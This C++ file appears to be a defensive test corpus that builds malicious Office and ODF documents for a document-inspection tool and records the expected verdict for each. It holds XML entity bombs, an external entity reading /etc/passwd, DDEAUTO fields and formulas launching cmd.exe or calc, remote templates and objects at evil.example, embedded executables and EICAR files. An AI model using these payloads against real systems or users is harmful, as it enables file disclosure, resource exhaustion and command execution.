// What is inside of well-formed archives: XML, sheets, slides, macros, parts from elsewhere.
#include "corpus.h"
#include "document/inspect/made_office.h"

namespace millrace::hostile {

using namespace document;

namespace {

std::string repeated(std::string_view text, std::size_t times) {
  std::string all;
  all.reserve(text.size() * times);
  for (std::size_t i = 0; i < times; ++i) all += text;
  return all;
}

std::string with_part(std::string name, std::string content) {
  auto zip = made_docx(docx_paragraph("text"));
  return zip.add(std::move(name), std::move(content)).bytes();
}

std::string with_body(std::string xml) {
  auto zip = made_docx("");
  zip.entries[1].content = std::move(xml);
  return zip.bytes();
}

std::string laughs() {
  std::string entities = "<!ENTITY l0 'ha'>";
  for (int i = 1; i < 12; ++i) {
    entities += fmt::format("<!ENTITY l{} '{}'>", i, repeated(fmt::format("&l{};", i - 1), 10));
  }
  return "<!DOCTYPE d [" + entities + "]><d>&l11;</d>";
}

using Add = std::function<void(std::string, std::string, std::function<std::string()>)>;

void add_xml(const Add& add) {
  add("billion laughs", "xml_dtd", [] { return with_body(laughs()); });
  add("billion laughs in a small part", "xml_dtd",
      [] { return with_part("docProps/core.xml", laughs()); });
  add("quadratic blow-up", "xml_dtd", [] {
    return with_body("<!DOCTYPE d [<!ENTITY a '" + std::string(100'000, 'a') + "'>]><d>" +
                     repeated("&a;", 10'000) + "</d>");
  });
  add("external entity", "xml_dtd",
      [] { return with_body("<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><d>&x;</d>"); });
  add("parameter entity", "xml_dtd", [] {
    return with_body("<!DOCTYPE d [<!ENTITY % x SYSTEM 'http://a.example/e.dtd'> %x;]><d/>");
  });
  add("a hundred thousand elements deep", "xml_depth",
      [] { return with_body(repeated("<a>", 100'000)); });
  add("deep and closed", "xml_depth",
      [] { return with_body(repeated("<w:p>", 5'000) + repeated("</w:p>", 5'000)); });
  add("tag of ten megabytes", "xml_token", [] {
    return with_body("<a b=\"" + noise(1, 0) + repeated("0123456789abcdef", 700'000) + "\"/>");
  });
  add("comment without an end", "xml_token",
      [] { return with_body("<a><!-- " + repeated("never ", 2'000'000)); });
  add("a hundred thousand attributes", "", [] {
    std::string xml = "<a";
    for (int i = 0; i < 100'000; ++i) xml += fmt::format(" b{}=\"\"", i);
    return with_body(xml + "/>x");
  });
  add("no UTF-8", "xml_syntax", [] { return with_body("<a>\xff\xfe\xfd</a>"); });
  add("zero byte", "xml_syntax", [] { return with_body(std::string("<a>\0</a>", 8)); });
  add("unknown encoding", "xml_syntax",
      [] { return with_body("<?xml version='1.0' encoding='UTF-7'?><a/>"); });
  add("two roots", "xml_syntax", [] { return with_body("<a/><b/>"); });
  add("body is missing", "office_structure", [] {
    auto zip = made_docx("");
    zip.entries.pop_back();
    return zip.bytes();
  });
}

void add_sheets(const Add& add, const Add& bounded) {
  add("ten thousand page breaks", "page_count", [] {
    return made_docx(repeated("<w:p><w:r><w:t>x</w:t><w:br w:type=\"page\"/></w:r></w:p>", 10'000))
        .bytes();
  });
  add("six thousand slides", "page_count", [] {
    auto zip = made_pptx({slide_text("x")});
    zip.entries.erase(zip.entries.begin() + 2);
    return zip
        .add("ppt/presentation.xml",
             "<p xmlns:r=\"r\">" + repeated("<sldId r:id=\"rId1\"/>", 6'000) + "</p>")
        .bytes();
  });
  add("missing slide", "office_structure", [] {
    auto zip = made_pptx({slide_text("x")});
    zip.entries.erase(zip.entries.begin() + 1);
    return zip.bytes();
  });
  add("cells scattered over a million columns and rows", "table_cells", [] {
    std::string rows;
    for (int i = 1; i <= 9'000; ++i) {
      std::string column;
      for (int n = i; n > 0; n = (n - 1) / 26)
        column.insert(0, 1, static_cast<char>('A' + (n - 1) % 26));
      rows += fmt::format("<row r=\"{0}\"><c r=\"{1}{0}\"><v>1</v></c></row>", i, column);
    }
    return made_xlsx(rows).bytes();
  });
  bounded("columns and rows beyond numbers", "", [] {
    return made_xlsx(
               "<row r=\"99999999999999999999\"><c r=\"ZZZZZZZZZZ1\"><v>1</v></c><c "
               "r=\"-1\"><v>1</v></c></row>"
               "<row r=\"4294967295\"><c r=\"XFD1\"><v>1e999</v></c></row>")
        .bytes();
  });
  bounded("strings and styles that do not exist", "", [] {
    return made_xlsx(
               "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>99999999999</v></c><c r=\"B1\" "
               "s=\"4000000000\"><v>1</v></c>"
               "<c r=\"C1\" s=\"1\"><v>1e308</v></c><c r=\"D1\" s=\"1\"><v>nan</v></c></row>")
        .bytes();
  });
  bounded("cells that span a milliard columns", "", [] {
    return made_docx("<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val=\"1000000000\"/></w:tcPr>" +
                     docx_paragraph("x") + "</w:tc></w:tr></w:tbl>")
        .bytes();
  });
  bounded("tables in tables in tables", "", [] {
    return made_docx(repeated("<w:tbl><w:tr><w:tc>", 80) + docx_paragraph("x") +
                     repeated("</w:tc></w:tr></w:tbl>", 80))
        .bytes();
  });
  bounded("lists of absurd levels", "", [] {
    return made_docx(
               docx_paragraph(
                   "x", "<w:numPr><w:ilvl w:val=\"2000000000\"/><w:numId w:val=\"-7\"/></w:numPr>"))
        .bytes();
  });
  bounded("columns repeated four milliard times", "", [] {
    return made_odf("spreadsheet",
                    "<table:table><table:table-row "
                    "table:number-rows-repeated=\"4000000000\"><table:table-cell "
                    "table:number-columns-repeated=\"4000000000\"><text:p>x</text:p></"
                    "table:table-cell></table:table-row>"
                    "</table:table>")
        .bytes();
  });
  bounded("blanks repeated four milliard times", "", [] {
    return made_odf("text",
                    "<text:p>" + repeated("<text:s text:c=\"4000000000\"/>", 1'000) + "x</text:p>")
        .bytes();
  });
  bounded("a slide of a megabyte of text", "",
          [] { return made_pptx({slide_text(repeated("word ", 200'000))}).bytes(); });
  bounded("two hundred thousand empty paragraphs", "",
          [] { return made_docx(repeated("<w:p/>", 200'000)).bytes(); });
  bounded("a word of a megabyte", "",
          [] { return made_docx(docx_paragraph(std::string(1'000'000, 'W'))).bytes(); });
  bounded("marks without letters", "",
          [] { return made_docx(docx_paragraph(repeated("\u0301", 300'000))).bytes(); });
  bounded("ends that were never begun", "", [] {
    return made_docx("<w:tc/><w:tr/><w:t>x</w:t><w:tbl><w:tc>" + docx_paragraph("x") +
                     "</w:tc></w:tbl>")
        .bytes();
  });
}

// Ids of megabytes that every element copies, if it may: of a few KiB come all memory or time.
void add_ids(const Add& harmless) {
  constexpr std::size_t kMega = std::size_t{1024} * 1024;
  harmless("levels of a list style with an id of a megabyte", "", [] {
    std::string levels;
    for (int i = 1; i <= 1'500; ++i) {
      levels += fmt::format("<text:list-level-style-bullet text:level=\"{}\"/>", i);
    }
    return made_odf("text", "<text:p>x</text:p>",
                    "<text:list-style style:name=\"" + std::string(kMega, 'A') + "\">" + levels +
                        "</text:list-style>")
        .bytes();
  });
  harmless("lists in a list with an id of megabytes", "", [] {
    return made_odf("text", "<text:p>x</text:p><text:list text:style-name=\"" +
                                std::string(3 * kMega, 'A') + "\">" +
                                repeated("<text:list/>", 100'000) + "</text:list>")
        .bytes();
  });
  harmless("levels of a numbering with an id of a megabyte", "", [] {
    std::string levels;
    for (int i = 0; i < 1'500; ++i) levels += fmt::format("<w:lvl w:ilvl=\"{}\"/>", i);
    return with_part("word/numbering.xml", "<w:n xmlns:w=\"w\"><w:abstractNum w:abstractNumId=\"" +
                                               std::string(kMega, 'A') + "\">" + levels +
                                               "</w:abstractNum></w:n>");
  });
  harmless("styles with a numbering of megabytes", "", [] {
    std::string body;
    std::string styles = "<w:s xmlns:w=\"w\"><w:style w:styleId=\"s\"><w:numId w:val=\"" +
                         std::string(3 * kMega, 'A') + "\"/></w:style>";
    for (int i = 0; i < 500; ++i) {
      styles += fmt::format("<w:style w:styleId=\"s{}\"><w:basedOn w:val=\"s\"/></w:style>", i);
      body += docx_paragraph("x", fmt::format("<w:pStyle w:val=\"s{}\"/>", i));
    }
    auto zip = made_docx(body);
    return zip.add("word/styles.xml", styles + "</w:s>").bytes();
  });
  // Each leads to the folder of its part, whose name is as long as one may be.
  harmless("a million relationships of a part far down", "", [] {
    const auto folder = std::string(490, 'd') + "/";
    auto zip = made_docx("");
    zip.entries[1].name = folder + "a.xml";
    zip.add("_rels/.rels", relationships(relationship("r", "officeDocument", folder + "a.xml")));
    return zip
        .add(folder + "_rels/a.xml.rels", relationships(repeated("<Relationship/>", 1'050'000)))
        .bytes();
  });
}

void add_active(const Add& add) {
  add("macros", "office_macro",
      [] { return with_part("word/vbaProject.bin", "\xd0\xcf\x11\xe0"); });
  add("macro sheet", "office_macro", [] {
    auto zip = made_xlsx("");
    return zip.add("xl/macrosheets/sheet2.xml", "<a/>").bytes();
  });
  add("macros of ODF", "office_macro", [] {
    auto zip = made_odf("text", "");
    return zip.add("Basic/Standard/Module1.xml", "<m/>").bytes();
  });
  add("script of ODF", "office_macro", [] {
    auto zip = made_odf("text", "");
    return zip.add("Scripts/python/evil.py", "import os").bytes();
  });
  add("event of ODF", "office_macro", [] {
    return made_odf("text", "<script:event-listener xlink:href=\"vnd.sun.star.script:a\"/>")
        .bytes();
  });
  add("template from the network", "office_remote_template", [] {
    return with_part(
        "word/_rels/settings.xml.rels",
        relationships(relationship("r", "attachedTemplate", "https://evil.example/t.dotm", true)));
  });
  add("template from a share", "office_remote_template", [] {
    return with_part(
        "word/_rels/settings.xml.rels",
        relationships(relationship("r", "attachedTemplate", "file://evil.example/s/t.dotm", true)));
  });
  add("object from the network", "office_remote_object", [] {
    return with_part("word/_rels/document.xml.rels",
                     relationships(relationship("r", "oleObject", "http://evil.example/x", true)));
  });
  add("DDE field", "office_dde", [] {
    return made_docx(
               "<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>")
        .bytes();
  });
  add("DDE field in pieces", "office_dde", [] {
    return made_docx(
               "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO</"
               "w:instrText></w:r><w:r>"
               "<w:instrText> cmd</w:instrText></w:r></w:p>")
        .bytes();
  });
  // Beside a body that says nothing. What inspection does not search, nobody reads.
  for (const std::string part : {"text/body", "word/embeddings/body.xml"}) {
    add("DDE field in " + part, "office_structure", [part] {
      auto zip = made_docx(docx_paragraph("text"));
      zip.add(part, made_docx("<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>")
                        .entries[1]
                        .content);
      return zip.add("_rels/.rels", relationships(relationship("r", "officeDocument", part)))
          .bytes();
    });
  }
  add("DDE formula", "office_dde", [] {
    return made_xlsx("<row r=\"1\"><c r=\"A1\"><f>cmd|'/c calc'!A0</f><v>1</v></c></row>").bytes();
  });
  add("DDE of ODF", "office_dde",
      [] { return made_odf("text", "<text:dde-connection-decl/>").bytes(); });
  add("ActiveX", "office_activex", [] { return with_part("word/activeX/activeX1.bin", "x"); });
  add("program in an object", "embedded_executable", [] {
    return with_part("word/embeddings/oleObject1.bin",
                     "\xd0\xcf\x11\xe0 MZ This program cannot be run in DOS mode");
  });
  add("program as a part", "embedded_executable",
      [] { return with_part("word/media/setup.exe", "x"); });
  add("password", "encrypted", [] {
    auto zip = made_odf("text", "");
    return zip.add("META-INF/manifest.xml", "<m><encryption-data/></m>").bytes();
  });
  add("test virus as a part", "eicar_test_file",
      [] { return with_part("word/media/image1.png", eicar()); });
  add("test virus in a sheet", "eicar_test_file", [] {
    auto zip = made_xlsx("");
    return zip.add("xl/media/a.bin", std::string(100'000, ' ') + eicar()).bytes();
  });
  add("test virus in ODF", "eicar_test_file", [] {
    auto zip = made_odf("text", "");
    return zip.add("Pictures/a.png", eicar(), false).bytes();
  });
  add("test virus in an archive in a slide show", "eicar_test_file", [] {
    auto zip = made_pptx({});
    return zip
        .add("ppt/embeddings/a.zip",
             MadeZip().add("a/b.zip", MadeZip().add("x", eicar()).bytes()).bytes())
        .bytes();
  });
}

}  // namespace

Corpus office_files() {
  Corpus corpus;
  const auto with = [&](Expect expect) {
    return
        [&corpus, expect](std::string name, std::string rule, std::function<std::string()> make) {
          corpus.push_back({.name = "office: " + name,
                            .expect = expect,
                            .rule = std::move(rule),
                            .make = std::move(make)});
        };
  };
  const Add refused = with(Expect::refused);
  const Add bounded = with(Expect::bounded);
  add_xml(refused);
  add_sheets(refused, bounded);
  add_ids(with(Expect::clean));
  add_active(refused);
  const Add flagged = with(Expect::flagged);
  flagged("part in another format", "office_alt_chunk",
          [] { return made_docx("<w:altChunk/>").bytes(); });
  flagged("picture from the network", "office_external_link", [] {
    return with_part("word/_rels/document.xml.rels",
                     relationships(relationship("r", "image", "http://a.example/pixel.png", true)));
  });
  return corpus;
}

}  // namespace millrace::hostile
